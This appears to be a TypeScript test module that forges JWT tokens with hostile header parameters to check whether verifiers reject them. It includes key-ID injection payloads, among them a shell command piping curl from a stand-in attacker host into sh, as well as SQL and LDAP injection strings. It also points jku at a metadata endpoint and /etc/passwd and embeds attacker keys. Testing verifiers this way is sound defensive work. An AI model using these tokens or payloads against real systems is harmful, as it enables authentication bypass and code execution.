/** Attacks through header parameters: extensions, key IDs, keys that come along. */
import { encodeBase64url } from '../../encoding/base64url.ts'
import { hmac } from '../../crypto/hmac.ts'
import { octetsOf, rawToken, segmentOf, signatureFor } from '../raw-token.ts'
import { type AttackContext, type Line, type Recipe, recipes, should, withHeader } from '../recipe.ts'

const crit = recipes(
  {
    category: 'crit',
    why: 'an extension that must be understood was passed over: the token does not mean what the verifier takes it for',
    reference: 'RFC 7515 §4.1.11, CVE-2025-59420, CVE-2026-32597, CVE-2026-35042',
  },
  [
    ['unknown-crit', withHeader({ crit: ['exp2'], exp2: 1 })],
    ['crit-uri', withHeader({ crit: ['http://example.com/x'], 'http://example.com/x': true })],
    ['crit-exp', withHeader({ crit: ['exp'], exp: 1 })],
    ['crit-known-and-unknown', withHeader({ crit: ['b64', 'x'], b64: true, x: 1 })],
    ['crit-absent-parameter', withHeader({ crit: ['http://example.com/x'] })],
    ['crit-constructor', withHeader({ crit: ['constructor'] })],
    ['crit-to-string', withHeader({ crit: ['toString'] })],
    ['crit-string', withHeader({ crit: 'b64', b64: true })],
    ['crit-object', withHeader({ crit: { 0: 'b64', length: 1 }, b64: true })],
    ['crit-true', withHeader({ crit: true })],
    ['crit-false', withHeader({ crit: false })],
    ['crit-number', withHeader({ crit: 1 })],
    ['crit-zero', withHeader({ crit: 0 })],
    ['crit-null', withHeader({ crit: null }), should],
    ['crit-number-inside', withHeader({ crit: [1], 1: 1 })],
    ['crit-nested', withHeader({ crit: [['b64']], b64: true })],
    ['crit-other-case', withHeader({ Crit: ['x'], crit: ['x'], x: 1 })],
    ['crit-empty', withHeader({ crit: [] }), should],
    ['crit-empty-text', withHeader({ crit: '' }), should],
    ['crit-empty-name', withHeader({ crit: [''], '': 1 }), should],
    ['crit-registered-alg', withHeader({ crit: ['alg'] }), should],
    ['crit-registered-typ', withHeader({ crit: ['typ'] }), should],
    ['crit-twice', withHeader({ crit: ['x', 'x'], x: 1 })],
  ],
)

/** Signed over the payload as it is, and sent with the payload encoded. */
function signedRaw(changes: object) {
  return async ({ header, claims, key }: AttackContext): Promise<string> => {
    const encoded = segmentOf({ ...header, ...changes })
    const signature = await signatureFor(`${encoded}.${JSON.stringify(claims)}`, key)
    return `${encoded}.${segmentOf(claims)}.${encodeBase64url(signature)}`
  }
}

const b64 = recipes(
  {
    category: 'b64',
    why: 'two readings of one token, with its payload encoded and not, are two tokens with one signature',
    reference: 'RFC 7797 §6, §7, CVE-2026-48525',
  },
  [
    ['b64-false-over-encoded', withHeader({ b64: false, crit: ['b64'] })],
    ['b64-false-over-raw', signedRaw({ b64: false, crit: ['b64'] })],
    ['b64-false-without-crit', signedRaw({ b64: false }), should],
    ['b64-text-over-encoded', withHeader({ b64: 'false', crit: ['b64'] })],
    ['b64-text-over-raw', signedRaw({ b64: 'false', crit: ['b64'] })],
    ['b64-zero-over-raw', signedRaw({ b64: 0, crit: ['b64'] })],
    ['b64-null-over-raw', signedRaw({ b64: null, crit: ['b64'] })],
  ],
)

/** A token of the attacker, with header parameters of the attacker's choice. */
function byAttacker(changes: (context: AttackContext) => object) {
  return (context: AttackContext): Promise<string> =>
    context.sign({ ...context.header, ...changes(context) }, context.claims, context.attacker)
}

/** What key IDs can do where they are put into paths, queries, commands and plain objects. */
const injections: readonly (readonly [string, string])[] = [
  ['path-dev-null', '../../../../../../dev/null'],
  ['path-etc', '/etc/hostname'],
  ['path-nul', 'key1\0.pem'],
  ['sql-or', "' OR '1'='1"],
  ['sql-union', "x' UNION SELECT '' --"],
  ['shell', 'key; curl http://attacker.invalid/ |sh'],
  ['shell-pipe', '|whoami'],
  ['url', 'http://attacker.invalid/key'],
  ['file-url', 'file:///dev/null'],
  ['proto', '__proto__'],
  ['constructor', 'constructor'],
  ['template', '${7*7}{{7*7}}'],
  ['ldap', '*)(uid=*'],
  ['right-to-left', 'k\u202e1'],
  ['empty', ''],
  ['long', 'k'.repeat(5000)],
]

/** Keyed with nothing: what a lookup gives that found an empty file, or no row. */
function emptyMac(kid: string) {
  return ({ header, claims }: AttackContext): string => {
    const input = `${segmentOf({ ...header, alg: 'HS256', kid })}.${segmentOf(claims)}`
    return `${input}.${encodeBase64url(hmac('SHA-256', new Uint8Array(0), octetsOf(input)))}`
  }
}

const kid = recipes(
  {
    category: 'kid-injection',
    why: 'the key ID is a text of the attacker; it was used for more than looking up a key that is trusted already',
    reference: 'RFC 7515 §4.1.4, RFC 8725 §3.10, CVE-2026-81829',
  },
  [
    ...injections.flatMap(([id, text]): Line[] => [
      [`kid-${id}`, byAttacker(() => ({ kid: text }))],
      [`kid-${id}-empty-secret`, emptyMac(text)],
    ]),
    ['kid-number', withHeader({ kid: 1 }), should],
    ['kid-object', withHeader({ kid: { a: 1 } }), should],
    ['kid-array', (context) => withHeader({ kid: [context.key.signingKey.kid] })(context), should],
    ['kid-null', withHeader({ kid: null }), should],
  ],
)

/** The attacker's key as it would stand in a header; of a shared secret, the secret. */
function attackerJwk({ attacker }: AttackContext): object {
  const { kid: _kid, ...jwk } = attacker.publicJwk ?? attacker.privateJwk
  return jwk
}

const oct = { kty: 'oct', k: encodeBase64url(octetsOf('a secret that the attacker brings along')) }

const embedded = recipes(
  {
    category: 'embedded-key',
    why: 'a key that the token brings, or names the place of, is the key of whoever wrote the token',
    reference: 'RFC 7515 §4.1.2–4.1.6, CVE-2018-0114, CVE-2024-21643, CVE-2026-27962',
  },
  [
    ['embedded-jwk', byAttacker((context) => ({ jwk: attackerJwk(context), kid: undefined }))],
    ['embedded-jwk-with-kid', byAttacker((context) => ({ jwk: attackerJwk(context) }))],
    ['embedded-jwk-text', byAttacker((context) => ({ jwk: JSON.stringify(attackerJwk(context)) }))],
    ['embedded-jwks', byAttacker((context) => ({ jwks: { keys: [attackerJwk(context)] } }))],
    [
      'embedded-jwk-secret',
      ({ header, claims }) => {
        const input = `${segmentOf({ ...header, alg: 'HS256', jwk: oct })}.${segmentOf(claims)}`
        const mac = hmac('SHA-256', octetsOf('a secret that the attacker brings along'), octetsOf(input))
        return `${input}.${encodeBase64url(mac)}`
      },
    ],
    ['embedded-jku', byAttacker(() => ({ jku: 'https://attacker.invalid/jwks.json' }))],
    ['embedded-jku-userinfo', byAttacker(({ issuer }) => ({ jku: `${issuer}@attacker.invalid/jwks.json` }))],
    ['embedded-jku-metadata', byAttacker(() => ({ jku: 'http://169.254.169.254/latest/meta-data' }))],
    ['embedded-jku-file', byAttacker(() => ({ jku: 'file:///etc/passwd' }))],
    ['embedded-x5u', byAttacker(() => ({ x5u: 'https://attacker.invalid/cert.pem' }))],
    ['embedded-x5c', byAttacker((context) => ({ x5c: [btoa(JSON.stringify(attackerJwk(context)))] }))],
    [
      'embedded-iss',
      ({ header, claims, attacker }) =>
        rawToken(header, { ...claims, iss: 'https://attacker.invalid' }, attacker),
    ],
  ],
)

/** The attacks through header parameters. */
export const headerAttacks: readonly Recipe[] = [...crit, ...b64, ...kid, ...embedded]
